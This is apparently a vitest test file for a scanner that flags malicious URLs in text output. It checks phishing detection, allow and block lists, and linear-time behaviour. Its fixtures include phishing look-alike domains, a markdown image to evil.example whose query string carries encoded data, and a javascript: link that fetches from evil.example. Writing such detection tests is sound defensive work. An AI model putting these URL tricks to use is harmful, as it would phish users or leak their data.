import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Subject } from '../text/subject.ts'
import { maliciousUrls } from './malicious-urls.ts'
import type { Found, ScanContext, Scanner } from './scanner.ts'

const context: ScanContext = { direction: 'output', checkTime: () => {}, tally: new Map() }

const settings = { threshold: 0.5, action: 'block', redactWith: '[REDACTED]', allow: [] as string[] } as const
const scanner = maliciousUrls({ ...settings, allow: [] })

const scan = (text: string, by: Scanner = scanner): Found[] =>
  by.scan(new Subject(text), context).filter(each => each.score >= settings.threshold)

const ranges = (text: string, by?: Scanner): string[] => scan(text, by).map(each => text.slice(each.start, each.end))

describe('addresses that are a finding', () => {
  it.each([
    ['http://paypal.com@evil.example/login', 'userinfo'],
    ['http://3627733806/login', 'disguised-ip'],
    ['http://0xd8.0x3a.0xd3.0x2e/login', 'disguised-ip'],
    ['[paypal.com](http://evil.example/x)', 'link-text'],
    ['[https://www.chase.com](https://ch-online.top/x)', 'link-text'],
    ['![](http://evil.example/i.png?data=SGVsbG8gd29ybGQsIHRoaXMgaXMgYSBzZWNyZXQ)', 'carries-data'],
    ['http://www.paypal.com.signin-check.top/a', 'host-in-host'],
    ['https://usps.com-track.top/a', 'host-in-host'],
    ['https://раураl.com/login', 'look-alike'],
    ['https://xn--80ak6aa92e.com/', 'look-alike'],
    ['[more](javascript:fetch("//evil.example"))', 'script-address'],
  ])('%s: %s', (text, rule) => {
    expect(scan(text).map(each => each.rule)).toContain(rule)
  })

  it.each([
    'https://paypa1-secure.com/login',
    'paypal-verify-account.xyz/login.php',
    'hxxps://metamask-airdrop[.]top/claim',
    'www.secure-login-wellsfargo.com',
    'http://45.90.58.12/paypal/login.php',
    'https://claim-arbitrum-airdrop.xyz',
    'https://xk7q2-hd83kf.duckdns.org/login.php',
    'Mehr dazu: https://netflix-kundenservice.top/konto.',
    '请登录http://icloud-unlock.top/验证',
    'paypal-secure-login . example is fine, paypal-secure-login [.] com is not',
  ])('%s', text => {
    expect(scan(text)).toHaveLength(1)
  })

  it('covers the address and nothing else', () => {
    expect(ranges('Go (http://paypal.com@evil.example/a?b=c), now.')).toEqual(['http://paypal.com@evil.example/a?b=c'])
  })
})

describe('addresses that are none', () => {
  it.each([
    'https://docs.python.org/3/library/re.html#re.compile',
    'https://github.com/nodejs/node/blob/main/lib/fs.js',
    'https://google.github.io/styleguide/pyguide.html',
    'http://localhost:3000/login and http://127.0.0.1:8000/admin/login.php',
    'https://api.example.org/v1/users?id=3',
    'http://192.168.0.1/login.html',
    'https://www.paypal.com/signin and https://accounts.google.com/ServiceLogin',
    'https://user:password@registry.example.com/npm',
    'https://brightkitchen.com/products/blue-kettle',
    'https://www.baeckerei-mueller.de/kontakt',
    'https://support.maplesoftware.com/hc/en-us/articles/360012-How-do-I-reset-my-password',
    'https://auth.maplesoftware.com/realms/master/protocol/openid-connect/token',
    'https://cs.uwaterloo.ca/~smith/papers/login.pdf',
    '[npmjs.com](https://www.npmjs.com/package/zod)',
    '[Sign in](https://app.maplesoftware.io/login)',
    '![build](https://img.shields.io/badge/build-passing-green?style=flat)',
    '<a href="javascript:void(0)">x</a>',
    'https://zh.wikipedia.org/wiki/北京',
    'https://www.münchen-tourismus.de',
  ])('%s', text => {
    expect(scan(text)).toEqual([])
  })
})

describe('the allow list', () => {
  const allowing = maliciousUrls({ ...settings, allow: ['paypal-verify.xyz', '*.metamask-claim.top'] })

  it.each(['https://paypal-verify.xyz/login', 'https://a.b.paypal-verify.xyz', 'https://x.metamask-claim.top/'])(
    'lets pass %s',
    text => expect(scan(text, allowing)).toEqual([]),
  )

  it('is about whole labels', () => {
    expect(scan('https://my-paypal-verify.xyz/login', allowing)).toHaveLength(1)
  })

  it('must have domains', () => {
    expect(() => maliciousUrls({ ...settings, allow: ['a b'] })).toThrow('MaliciousURLs: allow[0] must be a domain')
  })
})

describe('the block list', () => {
  let folder: string
  let file: string
  beforeAll(() => {
    folder = mkdtempSync(path.join(tmpdir(), 'drover-block-list-'))
    file = path.join(folder, 'list.txt')
    writeFileSync(
      file,
      '# bad\nbad-domain.example\nhttps://github.com/bad/repo  # one page\n0.0.0.0 hosts-file.example\nпример.рф\n',
    )
  })
  afterAll(() => rmSync(folder, { recursive: true }))

  it.each([
    ['https://bad-domain.example/a', true],
    ['https://sub.bad-domain.example', true],
    ['https://notbad-domain.example', false],
    ['https://github.com/bad/repo/', true],
    ['https://github.com/bad/repo?x=1#y', true],
    ['https://github.com/bad/repository', false],
    ['http://hosts-file.example', true],
    ['http://xn--e1afmkfd.xn--p1ai/x', true],
    ['bad-domain[.]example is not an address without a scheme; hxxp://bad-domain[.]example is', true],
  ])('%s: %s', (text, blocked) => {
    const found = scan(text, maliciousUrls({ ...settings, allow: ['bad-domain.example'], blockListFile: file }))
    expect(found.map(({ rule, score }) => [rule, score])).toEqual(blocked ? [['block-list', 1]] : [])
  })

  it('must be there at the start', () => {
    const missing = path.join(folder, 'missing.txt')
    expect(() => maliciousUrls({ ...settings, blockListFile: missing })).toThrow(missing)
  })
})

describe('bad input', () => {
  const chars = 1_048_576
  it.each([
    '.',
    '. ',
    'http://',
    'a.',
    '[',
    '[.]',
    '@',
    'a',
    '/',
    'http:\\\\',
    '%2f',
    '](',
    '\u200B',
    '\uD800',
    '\n',
    'x (',
    'www.',
    '中。a',
  ])('a megabyte of %j takes no more than linear time', piece => {
    const subject = new Subject(piece.repeat(Math.ceil(chars / piece.length)))
    void subject.normal
    const startedAt = performance.now()
    scanner.scan(subject, context)
    // Measured: below 50 ms. Quadratic time would be minutes.
    expect(performance.now() - startedAt).toBeLessThan(1_000)
  })

  it('looks at the clock while it judges many addresses', () => {
    let looks = 0
    const text = Array.from({ length: 1_000 }, (_, at) => `http://h${at}.xyz`).join(' ')
    scanner.scan(new Subject(text), { ...context, checkTime: () => void (looks += 1) })
    expect(looks).toBe(15)
  })
})
